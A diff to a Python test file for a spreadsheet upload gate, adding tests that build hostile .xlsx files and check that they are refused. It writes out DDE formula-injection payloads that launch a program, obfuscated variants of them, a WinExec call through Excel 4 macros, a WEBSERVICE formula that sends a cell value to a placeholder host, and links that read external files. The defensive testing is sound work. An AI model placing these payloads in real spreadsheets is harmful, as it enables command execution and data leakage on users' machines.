@@ -7,7 +7,7 @@ import pytest
 from riskbook.edge import gate
 from riskbook.errors import RefusedError
 
-from .hostile import MAIN, listing, relations, types, workbook
+from .hostile import MAIN, listing, relations, types, with_rows, workbook
 
 RELS = "xl/worksheets/_rels/sheet1.xml.rels"
 LINK = "xl/externalLinks/externalLink1.xml"
@@ -137,3 +137,88 @@ def test_a_part_that_hides_its_xml_behind_another_name_is_read_too() -> None:
     hidden = b'\xef\xbb\xbf<!DOCTYPE a [<!ENTITY b "c">]><a/>'
     assert "declares a document type" in refused(workbook({"xl/drawings/drawing1.bin": hidden}))
     gate.admit(workbook({"xl/a.txt": b"<no xml at all"}), "Register.xlsx")
+
+
+def in_cell(formula: str, *, slowly: bool = False) -> bytes:
+    """A formula in a cell; slowly: behind a comment, where every element is looked at."""
+    cell = f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>'
+    return with_rows(cell, before="<!-- -->" if slowly else "")
+
+
+def behind_rows(element: str) -> bytes:
+    return with_rows("", after=element)
+
+
+DDE = "cmd|'/c calc'!A0"
+LATER = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
+EXCEL = "http://schemas.microsoft.com/office/excel/2006/main"
+NEWER = f'<x:formula1 xmlns:x="{LATER}"><m:f xmlns:m="{EXCEL}">{DDE}</m:f></x:formula1>'
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        in_cell(DDE),
+        in_cell(DDE, slowly=True),
+        in_cell(DDE.replace("|", "&#124;")),
+        in_cell("'c\"md'|'/c \"'!A0"),
+        in_cell('DDE("soffice","a","b")'),
+        in_cell('"a"&amp;' + DDE),
+        behind_rows(f"<dataValidation sqref='A1'><formula1>{DDE}</formula1></dataValidation>"),
+        behind_rows(f"<cfRule><formula>{DDE}</formula></cfRule>"),
+        behind_rows(f"<extLst><ext>{NEWER}</ext></extLst>"),
+        workbook(
+            {
+                "xl/workbook.xml": listing(("Risks", "rId1")).replace(
+                    "</workbook>",
+                    f'<definedNames><definedName name="a">{DDE}</definedName></definedNames>'
+                    "</workbook>",
+                )
+            }
+        ),
+    ],
+)
+def test_dde_in_a_formula_is_never_allowed(data: bytes) -> None:
+    limits = replace(gate.LIMITS, allow=frozenset(gate.ALLOWABLE))
+    with pytest.raises(RefusedError, match="DDE link, which can start any program"):
+        gate.admit(data, "a.xlsx", limits=limits)
+
+
+@pytest.mark.parametrize("slowly", [False, True])
+@pytest.mark.parametrize(
+    ("formula", "name", "says"),
+    [
+        ('_xlfn.WEBSERVICE("http://host/"&amp;B5)', "data connections", "fetches something"),
+        ('_xlfn._xlws.IMAGE("http://host/a.png")', "data connections", "fetches something"),
+        ('rtd ("a",,"b")', "data connections", "fetches something"),
+        ('CALL("Kernel32","WinExec","JCJ","calc",0)', "Excel 4 macros", "calls another program"),
+        ('REGISTER.ID("a","b")', "Excel 4 macros", "calls another program"),
+        (r"'\\host\share\[b.xlsx]S'!A1", "other workbooks", "reads another file"),
+        ("'file:///b.ods'#$S.A1", "other workbooks", "reads another file"),
+        ("'[b.xlsx]S'!A1", "other workbooks", "reads another file"),
+    ],
+)
+def test_a_formula_that_reaches_out_is_refused_unless_it_allows_it(
+    formula: str, name: str, says: str, slowly: bool
+) -> None:
+    data = in_cell(formula, slowly=slowly)
+    assert says in refused(data)
+    gate.admit(data, "Register.xlsx", limits=replace(gate.LIMITS, allow=frozenset([name])))
+
+
+@pytest.mark.parametrize("slowly", [False, True])
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "'A|B'!A1",  # the name of a sheet
+        '"83% | 17%"&amp;A1',
+        'HYPERLINK("https://host/a","See [1]")',  # waits for a click
+        '"call(1) \\ // file:"',
+        "RECALL(1)+Call_1",
+        "'Risks &apos;22:It''s'!A1",
+        "SUM(Table1[[#This Row],[Cost [1]]])",
+        "IFERROR(__xludf.DUMMYFUNCTION(&quot;IMAGE(&quot;&quot;a&quot;&quot;)&quot;),&quot;&quot;)",
+    ],
+)
+def test_a_formula_that_reaches_nowhere_passes(formula: str, slowly: bool) -> None:
+    gate.admit(in_cell(formula, slowly=slowly), "Register.xlsx")
